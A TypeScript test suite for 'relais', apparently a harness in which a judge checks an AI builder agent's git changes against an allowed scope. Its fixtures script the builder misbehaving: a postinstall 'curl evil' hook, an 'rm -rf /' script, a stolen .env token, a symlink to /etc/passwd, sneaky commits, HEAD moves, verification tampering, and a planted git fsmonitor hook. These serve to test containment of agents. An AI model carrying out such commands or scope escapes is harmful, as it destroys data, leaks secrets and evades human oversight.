import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { BUILDER_OK, builderWrites, TestProject, task, unsandboxed } from '../support/project.js';

// The judge reads git reality: committed and uncommitted edits, untracked files one by one,
// ignored files, symlinks, HEAD. Every case runs the real `relais run`.

let project: TestProject;
afterEach(() => project?.dispose());

/**
 * These builders write outside the task's folders or into `.git/` (a commit, a branch switch, a
 * reset): the sandbox refuses every such write before it lands (sandbox-attacks, test/redteam),
 * so the judge reading git afterwards, the second fence, is what these cases prove.
 */
const judgeOnly = unsandboxed(
  "the builders write outside the task's folders or into .git/: the judge is under test",
);

const newFilesScope = {
  allowed_globs: ['src/**'],
  forbidden_globs: [],
  allow_new_files: true,
  allow_lockfile_changes: false,
};

describe('judge: the touched set from git reality', () => {
  it('sees a builder that rewrote a file outside scope without committing (the 0-files bug)', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n', 'package.json': '{}\n' }, judgeOnly);
    project.scenario({
      orchestrator: [{ result_json: task() }],
      builder: [builderWrites({ 'package.json': '{"scripts":{"postinstall":"curl evil"}}\n' })],
    });
    project.cliSync(['run']);
    const report = project.report();
    expect(report.blast_radius.files_touched).toBe(1);
    expect(report.code).toBe('STOP_SCOPE_VIOLATION_OUTSIDE_ALLOWED');
  });

  it('judges builder commits together with uncommitted edits and squashes them into one relais commit', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n', 'src/b.ts': 'b\n' });
    const base = project.head();
    project.scenario({
      orchestrator: [{ result_json: task() }],
      builder: [
        {
          actions: [
            { write: 'src/a.ts', content: 'a2\n' },
            { exec: ['git', 'commit', '-qam', 'builder commit'] },
            { write: 'src/b.ts', content: 'b2\n' },
          ],
          result_json: BUILDER_OK,
        },
      ],
    });
    const run = project.cliSync(['run']);
    expect(run.code, run.stdout).toBe(0);
    expect(project.report().scope.touched_paths).toEqual(['src/a.ts', 'src/b.ts']);
    expect(project.git('rev-list', '--count', `${base}..HEAD`).trim()).toBe('1');
    expect(project.git('show', '--name-only', '--format=', 'HEAD').trim().split('\n')).toEqual([
      'src/a.ts',
      'src/b.ts',
    ]);
    expect(project.status()).toBe('');
  });

  it('a committed out-of-scope change is caught and the branch is put back on base', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n', 'README.md': 'r\n' }, judgeOnly);
    const base = project.head();
    project.scenario({
      orchestrator: [{ result_json: task() }],
      builder: [
        {
          actions: [
            { write: 'README.md', content: 'changed\n' },
            { exec: ['git', 'commit', '-qam', 'sneaky'] },
          ],
          result_json: BUILDER_OK,
        },
      ],
    });
    project.cliSync(['run']);
    expect(project.report().code).toBe('STOP_SCOPE_VIOLATION_OUTSIDE_ALLOWED');
    expect(project.head()).toBe(base);
    expect(project.read('README.md')).toBe('r\n');
  });

  it('lists paths with spaces and files inside new folders one by one', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' });
    project.scenario({
      orchestrator: [{ result_json: task({ scope: newFilesScope }) }],
      builder: [
        builderWrites({ 'src/new dir/a b.ts': 'x\ny\n', 'src/deep/er/c.ts': 'z\n', 'src/quote"d.ts': 'q\n' }),
      ],
    });
    const run = project.cliSync(['run']);
    expect(run.code, run.stdout).toBe(0);
    const report = project.report();
    expect(report.scope.touched_paths).toEqual(['src/deep/er/c.ts', 'src/new dir/a b.ts', 'src/quote"d.ts']);
    expect(report.blast_radius).toEqual({ files_touched: 3, lines_added: 4, lines_deleted: 0, new_files: 3 });
  });

  it('an out-of-scope file inside a new folder is caught even when a sibling is allowed', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' }, judgeOnly);
    project.scenario({
      orchestrator: [{ result_json: task({ scope: newFilesScope }) }],
      builder: [builderWrites({ 'src/ok/a.ts': 'a\n', 'scripts/new/run.sh': 'rm -rf /\n' })],
    });
    project.cliSync(['run']);
    expect(project.report().code).toBe('STOP_SCOPE_VIOLATION_OUTSIDE_ALLOWED');
    expect(project.exists('scripts')).toBe(false);
    expect(project.exists('src/ok')).toBe(false);
  });

  it('sees an ignored .env file git cannot see, and rollback restores its old content', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n', '.gitignore': '.env\nbuild/\n' }, judgeOnly);
    project.write('.env', 'TOKEN=original\n');
    project.scenario({
      orchestrator: [{ result_json: task() }],
      builder: [builderWrites({ 'src/a.ts': 'b\n', '.env': 'TOKEN=stolen\n', 'build/out.js': 'x\n' })],
    });
    project.cliSync(['run']);
    const report = project.report();
    expect(report.code).toBe('STOP_SCOPE_VIOLATION_FORBIDDEN');
    expect(report.scope.touched_paths).toEqual(expect.arrayContaining(['.env', 'build/out.js', 'src/a.ts']));
    expect(project.read('.env')).toBe('TOKEN=original\n');
    expect(project.exists('build')).toBe(false);
  });

  it('a symlink that points out of the repository is a forbidden touch', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' });
    project.scenario({
      orchestrator: [{ result_json: task({ scope: newFilesScope }) }],
      builder: [{ actions: [{ symlink: 'src/passwd', target: '/etc/passwd' }], result_json: BUILDER_OK }],
    });
    project.cliSync(['run']);
    expect(project.report().code).toBe('STOP_SCOPE_VIOLATION_FORBIDDEN');
    expect(project.report().scope.violations.join()).toContain(
      'symlink leaves the repository: src/passwd -> /etc/passwd',
    );
    expect(project.exists('src/passwd')).toBe(false);
  });

  it('HEAD switched to another branch is STOP_HEAD_MOVED and the original branch is restored', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' }, judgeOnly);
    const base = project.head();
    project.scenario({
      orchestrator: [{ result_json: task() }],
      builder: [
        { actions: [{ exec: ['git', 'checkout', '-q', '-b', 'elsewhere'] }], result_json: BUILDER_OK },
      ],
    });
    project.cliSync(['run']);
    expect(project.report().code).toBe('STOP_HEAD_MOVED');
    expect(project.git('symbolic-ref', 'HEAD').trim()).toBe('refs/heads/main');
    expect(project.head()).toBe(base);
  });

  it('a branch reset behind base_commit is STOP_HEAD_MOVED and restored', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' }, judgeOnly);
    const base = project.head();
    project.scenario({
      orchestrator: [{ result_json: task() }],
      builder: [{ actions: [{ exec: ['git', 'reset', '-q', '--soft', 'HEAD~1'] }], result_json: BUILDER_OK }],
    });
    project.cliSync(['run']);
    expect(project.report().code).toBe('STOP_HEAD_MOVED');
    expect(project.head()).toBe(base);
    expect(project.status()).toBe('');
  });

  it('a second run starts clean from the new base after a successful tick', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' });
    project.scenario({
      orchestrator: [{ result_json: task() }, { result_json: task({ task_id: 'T2' }) }],
      builder: [builderWrites({ 'src/a.ts': 'a2\n' }), builderWrites({ 'src/a.ts': 'a3\n' })],
    });
    const first = project.cliSync(['run']);
    const afterFirst = project.head();
    const second = project.cliSync(['run']);
    expect([first.code, second.code]).toEqual([0, 0]);
    expect(project.report().base_commit).toBe(afterFirst);
    expect(project.git('log', '--format=%s', '-2').trim().split('\n')).toEqual([
      'relais(T2): Change a',
      'relais(T1): Change a',
    ]);
    expect(project.state().budgets).toMatchObject({ ticks: 2, builder_calls: 2 });
  });

  it('untracked files verification leaves are not committed: what was judged is what gets committed', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' }, (config) => {
      config.verification.templates.push({
        id: 'messy',
        cmd: 'node',
        // Inside the task's folder: a check writes only its task's paths (the sandbox refuses the rest).
        args: ['-e', 'require("fs").writeFileSync("src/coverage.txt", "x")'],
      });
    });
    project.scenario({
      orchestrator: [{ result_json: task({ verification: { fast: ['messy'], slow: [] } }) }],
      builder: [builderWrites({ 'src/a.ts': 'judged\n' })],
    });
    const run = project.cliSync(['run']);
    expect(run.code, run.stdout).toBe(0);
    expect(project.git('show', 'HEAD:src/a.ts')).toBe('judged\n');
    expect(project.exists('src/coverage.txt')).toBe(false);
    expect(project.git('ls-tree', '-r', '--name-only', 'HEAD')).not.toContain('coverage.txt');
    expect(project.report().rollback.notes.join()).toContain('verification side effects');
  });

  it('a verification that rewrites a judged file is STOP_TREE_CHANGED_DURING_VERIFY, never SUCCESS (issue 14)', () => {
    project = TestProject.create({ 'src/a.ts': 'a\n' }, (config) => {
      config.verification.templates.push({
        id: 'tamper',
        cmd: 'node',
        args: ['-e', 'require("fs").writeFileSync("src/a.ts", "tampered\\n")'],
      });
    });
    const base = project.head();
    project.scenario({
      orchestrator: [{ result_json: task({ verification: { fast: ['tamper'], slow: [] } }) }],
      builder: [builderWrites({ 'src/a.ts': 'judged\n' })],
    });
    const run = project.cliSync(['run']);
    expect(run.code, run.stdout).toBe(1);
    expect(project.report()).toMatchObject({ verdict: 'stop', code: 'STOP_TREE_CHANGED_DURING_VERIFY' });
    expect(project.report().detail).toContain('src/a.ts');
    expect(project.head()).toBe(base);
    expect(project.read('src/a.ts')).toBe('a\n');
    expect(project.status()).toBe('');
  });
});

describe('judge: the hardened git really is needed', () => {
  it('the planted fsmonitor payload used by F006 does run under a plain git status (so the guard is not vacuous)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'relais-sanity-'));
    try {
      mkdirSync(join(dir, 'r'));
      const marker = join(dir, 'ran');
      const script = join(dir, 'fsmon.sh');
      writeFileSync(script, `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
      const git = (...args: string[]) => spawnSync('git', args, { cwd: join(dir, 'r'), encoding: 'utf8' });
      git('init', '-q');
      git('config', 'core.fsmonitor', script);
      git('status');
      expect(existsSync(marker)).toBe(true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
